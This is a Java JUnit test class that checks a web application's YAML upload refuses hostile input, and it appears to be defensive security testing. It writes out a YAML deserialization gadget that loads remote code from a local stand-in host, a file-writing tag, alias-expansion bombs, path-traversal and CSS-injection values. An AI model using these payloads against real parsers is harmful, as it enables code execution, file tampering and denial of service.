package org.parley.app.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Sections 5 and 8 of docs/security.md: talks files. */
class TalksAttackTest extends Besieged {
    private int number;

    private HttpResponse<String> hand(String yaml) throws Exception {
        Multipart form = new Multipart().field("text", "Sorran demands salt " + number++ + ".");
        HttpResponse<String> answer =
                assertTimeoutPreemptively(
                        Duration.ofSeconds(20),
                        () -> intruder.hand(form.file("talksfile", "t.yaml", yaml)));
        Markup.check(answer.body());
        for (String word : List.of("Exception", "snakeyaml", "jackson", "/tmp/", ".java")) {
            assertFalse(answer.body().contains(word), answer::body);
        }
        return answer;
    }

    /** Refused with a reason, and nothing read. */
    private void refused(String yaml) throws Exception {
        String before = fort.snap();
        HttpResponse<String> answer = hand(yaml);
        String start = yaml.substring(0, Math.min(80, yaml.length()));
        assertEquals(422, answer.statusCode(), start);
        assertEquals(before, fort.snap(), start);
    }

    private static String talks(String id, String name, String party) {
        return "talks: " + id + "\nname: " + name + "\nparties:\n  - name: " + party + "\n";
    }

    private static String quoted(String words) {
        return "'" + words.replace("'", "''") + "'";
    }

    @Test
    void a91_fields_areText() throws Exception {
        for (String payload : Markup.PAYLOADS) {
            String name = quoted(payload);
            hand(talks("talks-" + number, name, name));
            hand(talks(name, "x", "y"));
            hand(
                    talks("t" + number, "x", "y")
                            + "    aliases: ["
                            + name
                            + "]\n    colour: "
                            + name);
            hand(
                    talks("u" + number, "x", "y")
                            + "issues:\n  - name: "
                            + name
                            + "\n    words: [salt]\n");
            hand(name + ": x\n");
        }
        for (String id : List.of("../x", "'a b\"c'", "'red;background:url(//evil.test)'")) {
            hand(talks(id, "x", "y"));
        }
        intruder.look();
    }

    @Test
    void a173_tags_makeNothing() throws Exception {
        Path pwn = folder.resolve("yamlpwn");
        refused(
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                        + " [\"http://127.0.0.1:9999/\"]]]]");
        refused("!!java.io.FileOutputStream [\"" + pwn + "\"]");
        // A value is read as its letters, whatever its tag says.
        HttpResponse<String> tagged = hand("talks: !<tag:yaml.org,2002:java.util.Date> 1\n");
        ReadTest.done(fort.served, tagged);
        assertEquals("1", fort.served.ledger().storedTalks().get(0).talks().id());
        refused("%TAG ! tag:yaml.org,2002:\n---\n!java.util.Date 1\n");
        assertFalse(Files.exists(pwn));
    }

    @Test
    void a174_bombs_areRefused() throws Exception {
        StringBuilder bomb = new StringBuilder("a: &a [x,x,x,x,x,x,x,x,x]\n");
        for (char c = 'b'; c <= 'l'; c++) {
            String before = "*" + (char) (c - 1);
            bomb.append(c + ": &" + c + " [" + before + ("," + before).repeat(8) + "]\n");
        }
        refused(bomb.toString());
        refused("&a [*a]\n");
        refused("a: &a\n  <<: *a\n");
        refused("&a\n? *a\n: x\n");
    }

    @Test
    void a175_deepAndLarge_areRefused() throws Exception {
        refused("[".repeat(100_000));
        refused("{a: ".repeat(100_000));
        refused("a: " + "x".repeat(2 << 20));
        refused("---\na: b\n".repeat(10_000));
        refused("a: " + "1".repeat(900_000));
        refused("a: 1" + ":1".repeat(100_000));
        refused("a: !!binary " + "A".repeat(900_000));
    }

    @Test
    void a176_oddValues_areRefused() throws Exception {
        refused("talks: a\ntalks: b\n" + talks("c", "x", "y"));
        refused(talks("x1", "x", "[a, b]"));
        refused("? [a]\n: b\n");
        refused("talks:\tx\n\tname: y\n");
        refused("talks: x\u0000y\n");
        refused("talks: [x]\nname: {a: b}\n");
        refused(talks("x2", "x", "y") + "begins: 0000-00-00\n");
        refused(talks("x2", "x", "y") + "since: 9999999999-01-01\n");
        assertTrue(fort.served.ledger().storedTalks().isEmpty());
    }

    @Test
    void a177_brokenFile_leavesTheOldOne() throws Exception {
        HttpResponse<String> good = hand(talks("peace", "Peace", "Sorran"));
        assertEquals(303, good.statusCode(), good::body);
        ReadTest.done(fort.served, good);
        intruder.rule(
                "/entries/" + fort.served.entries().get(0).id() + "/rule",
                "kind",
                "wrong",
                "seen",
                0);
        String before = fort.served.ledger().storedTalks().toString();
        refused("talks: peace\nname: [");
        refused("talks: peace\nparties: 7\n");
        assertEquals(before, fort.served.ledger().storedTalks().toString());
        ReadTest.done(fort.served, hand(talks("peace", "Other", "Karvelia")));
        assertEquals(1, fort.served.ledger().review().rulings().size());
        assertEquals(403, intruder.post(fort.analyst, "/read", "talks", "peace").statusCode());
        assertTrue(intruder.page("/board").contains("talks"));
    }
}
